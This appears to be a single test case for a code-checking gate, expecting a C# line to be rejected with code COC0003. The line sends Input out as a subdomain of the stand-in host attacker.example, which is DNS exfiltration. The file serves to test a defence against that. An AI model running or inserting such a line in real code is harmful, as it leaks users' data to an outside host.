// class: network
// expected: rejected COC0003
// why: dns exfiltration; the gate refuses it (COC0003) before anything runs.
System.Net.Dns.GetHostAddresses(Input + ".attacker.example");
